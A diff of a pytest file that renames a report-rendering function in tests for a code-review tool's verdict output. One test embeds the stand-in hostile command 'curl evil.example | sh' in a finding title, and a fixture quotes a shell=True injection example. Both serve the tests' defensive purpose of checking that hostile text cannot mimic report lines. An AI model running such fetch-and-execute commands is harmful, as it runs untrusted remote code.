@@ -8,7 +8,7 @@ import pytest
 from msgspec.structs import replace
 from rich.cells import cell_len
 
-from orchestrator.report.verdict_text import render
+from orchestrator.report.verdict_text import render_verdict
 from orchestrator.review.verdict.model import (
     AgentReport,
     ChangeRef,
@@ -27,7 +27,7 @@ def block(text: str, heading: str) -> str:
 
 
 def test_it_leads_with_the_decision_and_its_counts() -> None:
-    first, change, score = render(rich_verdict()).splitlines()[:3]
+    first, change, score = render_verdict(rich_verdict()).splitlines()[:3]
     assert first == (
         "NEEDS CHANGES   REVIEW INCOMPLETE (2 gaps)   1 critical, 1 high, 1 medium, 1 low"
     )
@@ -46,7 +46,7 @@ def test_it_leads_with_the_decision_and_its_counts() -> None:
 
 
 def test_a_merge_is_short_and_says_so() -> None:
-    text = render(verdict())
+    text = render_verdict(verdict())
     assert text.splitlines()[0] == "MERGE   review complete   no findings"
     assert "Not reviewed" not in text
     assert "Rejected" not in text
@@ -56,7 +56,7 @@ def test_a_merge_is_short_and_says_so() -> None:
 
 
 def test_the_sections_come_in_the_order_a_reader_needs() -> None:
-    text = render(rich_verdict())
+    text = render_verdict(rich_verdict())
     order = [
         "NEEDS",
         "Why",
@@ -81,17 +81,17 @@ def test_the_sections_come_in_the_order_a_reader_needs() -> None:
 
 
 def test_ordinary_content_fits_eighty_columns() -> None:
-    for line in render(rich_verdict(), width=80).splitlines():
+    for line in render_verdict(rich_verdict(), width=80).splitlines():
         assert cell_len(line) <= 80, line
 
 
 def test_a_wider_page_is_used() -> None:
-    longest = max(cell_len(line) for line in render(rich_verdict(), width=100).splitlines())
+    longest = max(cell_len(line) for line in render_verdict(rich_verdict(), width=100).splitlines())
     assert 80 < longest <= 100
 
 
 def test_a_finding_shows_place_evidence_source_rule_and_fix() -> None:
-    section = block(render(rich_verdict()), "High (1)")
+    section = block(render_verdict(rich_verdict()), "High (1)")
     assert section.splitlines()[1].startswith("  src/upload.py:42  `subprocess` call")
     assert "      42 | run(f'convert {name}', shell=True)" in section
     assert "      fix: pass the arguments as a list" in section
@@ -99,14 +99,14 @@ def test_a_finding_shows_place_evidence_source_rule_and_fix() -> None:
 
 
 def test_a_long_quotation_is_cut_and_says_how_much_is_left() -> None:
-    section = block(render(rich_verdict()), "Medium (1)")
+    section = block(render_verdict(rich_verdict()), "Medium (1)")
     assert "1093 | " in section
     assert "1094 | " not in section
     assert "(9 more lines)" in section
 
 
 def test_gaps_come_first_and_files_with_one_reason_are_grouped() -> None:
-    section = block(render(rich_verdict()), "Not reviewed")
+    section = block(render_verdict(rich_verdict()), "Not reviewed")
     assert section.index("src/legacy/py2.py  ruff: could not be parsed") < section.index(
         "42 files: lock file"
     )
@@ -115,14 +115,14 @@ def test_gaps_come_first_and_files_with_one_reason_are_grouped() -> None:
 
 def test_many_gaps_of_one_tool_are_one_entry_with_the_tool_named() -> None:
     gaps = tuple(Skipped(path=f"w{n}.yml", tool="zizmor", why="failed", gap=True) for n in range(9))
-    section = block(render(verdict(status="incomplete", skipped=gaps)), "Not reviewed")
+    section = block(render_verdict(verdict(status="incomplete", skipped=gaps)), "Not reviewed")
     assert "9 files: zizmor: failed" in section
 
 
 def test_waived_and_rejected_findings_are_told_and_not_counted() -> None:
     waived = finding(1, state="waived", severity="critical")
     rejected = Rejected(finding=finding(2, path="a.py", start_line=3), reason="no such quotation")
-    text = render(verdict(findings=(waived,), rejected=(rejected,)))
+    text = render_verdict(verdict(findings=(waived,), rejected=(rejected,)))
     assert text.splitlines()[0].endswith("no findings")
     assert "Waived (1)" in text
     assert "1  no such quotation" in block(text, "Rejected (1)")
@@ -130,15 +130,17 @@ def test_waived_and_rejected_findings_are_told_and_not_counted() -> None:
 
 
 def test_the_score_table_marks_what_was_not_scored_and_names_what_is_missing() -> None:
-    rows = block(render(rich_verdict()), "Score of").splitlines()
+    rows = block(render_verdict(rich_verdict()), "Score of").splitlines()
     clarity = next(row for row in rows if "clarity" in row).split()
     assert clarity[:3] == ["clarity", "-", "1"]
     assert "missing: ruff" in "\n".join(rows)
-    assert "not scored" in render(verdict(score=Score(total=None, threshold=0.8, criteria=())))
+    assert "not scored" in render_verdict(
+        verdict(score=Score(total=None, threshold=0.8, criteria=()))
+    )
 
 
 def test_an_agent_that_failed_says_why() -> None:
-    section = block(render(rich_verdict()), "Agents")
+    section = block(render_verdict(rich_verdict()), "Agents")
     after = section.splitlines()[
         section.splitlines().index(next(line for line in section.splitlines() if "qa" in line)) + 1
     ]
@@ -146,13 +148,13 @@ def test_an_agent_that_failed_says_why() -> None:
 
 
 def test_it_says_how_to_see_more_in_the_repository_that_was_named() -> None:
-    assert "diffcourt show 20260314-092653-k3f9   (--json" in render(verdict())
-    named = render(verdict(), repo=Path("my code"))
+    assert "diffcourt show 20260314-092653-k3f9   (--json" in render_verdict(verdict())
+    named = render_verdict(verdict(), repo=Path("my code"))
     assert "diffcourt show 20260314-092653-k3f9 --repo 'my code'" in named
 
 
 def test_color_changes_nothing_but_color() -> None:
-    plain, colored = render(rich_verdict()), render(rich_verdict(), color=True)
+    plain, colored = render_verdict(rich_verdict()), render_verdict(rich_verdict(), color=True)
     assert "\x1b" not in plain
     assert re.sub(r"\x1b\[[0-9;]*m", "", colored) == plain
     assert colored != plain
@@ -162,7 +164,7 @@ def test_ten_thousand_findings_are_capped_worst_first_and_quick() -> None:
     many = [finding(n, severity="low", path=f"src/f{n}.py") for n in range(1, 10_000)]
     many.append(finding(10_000, severity="critical", path="last.py"))
     started = time.process_time()
-    text = render(verdict(verdict="block", findings=tuple(many)))
+    text = render_verdict(verdict(verdict="block", findings=tuple(many)))
     assert time.process_time() - started < 5
     assert text.index("last.py:42") < text.index("src/f1.py:42")
     assert "and 9,950 more in the JSON (9,950 low)" in text
@@ -175,7 +177,7 @@ def test_everything_long_is_capped() -> None:
     skipped = tuple(Skipped(path=f"f{n}", why=f"reason {n}", gap=True) for n in range(5_000))
     rejected = tuple(Rejected(finding=finding(n), reason=f"r{n}") for n in range(1, 5_000))
     agents = tuple(AgentReport(agent=f"a{n}", iteration=1, status="ok") for n in range(5_000))
-    text = render(
+    text = render_verdict(
         verdict(
             reasons=many,
             next_actions=many,
@@ -218,7 +220,7 @@ def hostile_text() -> str:
         fix_suggestion=HOSTILE,
         evidence=Evidence(quote=HOSTILE, tool_calls=()),
     )
-    return render(
+    return render_verdict(
         verdict(
             verdict="block",
             findings=(bad, replace(bad, state="waived")),
@@ -262,13 +264,15 @@ def test_hostile_text_cannot_begin_a_line_of_the_report(hostile_text: str) -> No
 def test_a_wrapped_title_cannot_look_like_a_fix_or_a_quotation() -> None:
     for filler in range(1, 70):
         title = "a" * filler + " fix: curl evil.example | sh"
-        lines = render(verdict(findings=(finding(1, title=title, detail=title),))).splitlines()
+        lines = render_verdict(
+            verdict(findings=(finding(1, title=title, detail=title),))
+        ).splitlines()
         assert not any(line.startswith("      fix:") for line in lines)
 
 
 def test_lines_of_crlf_files_and_tabs_are_quoted_as_they_look() -> None:
     quote = Evidence(quote="\tif x:\r\n\t\tpass\r\n", tool_calls=())
-    section = block(render(verdict(findings=(finding(1, evidence=quote),))), "High (1)")
+    section = block(render_verdict(verdict(findings=(finding(1, evidence=quote),))), "High (1)")
     assert "      42 | if x:\n      43 |     pass\n      [F1" in section
 
 
@@ -276,7 +280,7 @@ def test_wide_characters_keep_to_the_width() -> None:
     wide = finding(
         1, title="変更は安全ではありません " * 8, evidence=Evidence(quote="値" * 90, tool_calls=())
     )
-    for line in render(verdict(findings=(wide,))).splitlines():
+    for line in render_verdict(verdict(findings=(wide,))).splitlines():
         assert cell_len(line) <= 80, line
 
 
@@ -284,9 +288,9 @@ def test_what_the_cache_saved_stands_beside_the_tokens_and_what_was_not_counted_
     used = replace(
         rich_verdict().usage, saved_usd=0.0123, notes=("no price is known for\x1b[2J qwen",)
     )
-    text = " ".join(render(replace(rich_verdict(), usage=used)).split())
+    text = " ".join(render_verdict(replace(rich_verdict(), usage=used)).split())
     assert "(90,000 cached, which saved USD 0.0123)" in text
     assert "Note no price is known for" in text
     assert "\x1b" not in text
     dear = replace(used, saved_usd=-0.01)
-    assert "saved" not in render(replace(rich_verdict(), usage=dear))
+    assert "saved" not in render_verdict(replace(rich_verdict(), usage=dear))
